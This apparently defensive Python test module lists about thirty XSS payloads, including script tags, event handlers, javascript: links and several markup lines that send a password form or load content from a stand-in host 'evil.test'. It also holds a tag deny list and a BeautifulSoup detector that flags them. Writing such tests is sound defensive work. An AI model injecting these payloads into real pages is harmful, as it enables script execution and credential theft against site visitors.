"""Markup that tries to run, and the search for what would run in a page. Every road to a post is tried with it."""

from bs4 import BeautifulSoup

HOSTILE = [
    "<script>alert('t')</script>",
    "'><img src=x onerror=alert('t')>",
    "<svg/onload=alert('t')>",
    "<svg><animate onbegin=alert('t') attributeName=x dur=1s>",
    "<a href=\"java\tscript:alert('t')\">x</a>",
    "<a href=\"JaVaScRiPt:alert('t')\">x</a>",
    "<a href='vbscript:msgbox(\"t\")'>x</a>",
    "javascript://example.org/%0aalert('t')",
    "<iframe srcdoc=\"<script>alert('t')</script>\"></iframe>",
    "<embed src=\"javascript:alert('t')\">",
    "<form action=//evil.test/t><input name=p type=password></form>",
    "<input autofocus onfocus=alert('t')>",
    "<video><source onerror=alert('t')></video>",
    "<marquee onstart=alert('t')>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert('t')>\">",
    "</textarea><script>alert('t')</script>",
    "</script><script>alert('t')</script>",
    "<![CDATA[<script>alert('t')</script>]]>",
    '<meta http-equiv=refresh content="0;url=//evil.test/t">',
    "<style>@import '//evil.test/t';</style>",
    "<img src=//evil.test/t.gif>",
    "\";alert('t');//",
    "{{constructor.constructor('alert(1)')()}}t",
    "[x](javascript:alert('t'))",
    "<https://x\" onmouseover=\"alert('t')>",
    "<scr<script>ipt>alert('t')</script>",
    "&lt;script&gt;alert('t')&lt;/script&gt;",
    "<xss id=t tabindex=1 onfocus=alert('t')></xss>",
    "<a target=_blank onpointerover=alert('t')>x</a>",
    "<svg><a xlink:href=\"javascript:alert('t')\"><text y=20>x</text></a></svg>",
    "<object type=text/html data=//evil.test/t>",
    "<img src=\"x` `<script>alert('t')</script>\"` `>",
    "<!--[if gte IE 4]><script>alert('t')</script><![endif]-->",
    "<img src=x:t onerror=eval(src)>",
]
NEVER = [
    "script",
    "style",
    "iframe",
    "object",
    "embed",
    "form",
    "input",
    "svg",
    "math",
    "base",
    "meta",
    "link",
    "img",
    "xss",
]
SCHEMES = ("http:", "https:", "mailto:", "tel:", "/", "#")


def activity(markup: str) -> list[str]:
    """Whatever in the text of a post a browser would run or fetch by itself, or would run when a link is followed."""
    tree = BeautifulSoup(markup, "html.parser")
    found = [str(tag) for tag in tree.find_all(NEVER)]
    for tag in tree.find_all(True):
        for name, found_value in tag.attrs.items():
            value = str(found_value)
            is_link = tag.name == "a" and name == "href"
            if name not in {"href", "lang", "colspan", "rowspan", "scope", "start", "data-picture"}:
                found.append(f"{name} of {tag}")
            elif is_link and ":" in value.split("/", maxsplit=1)[0] and not value.startswith(SCHEMES):
                found.append(str(tag))
    return found
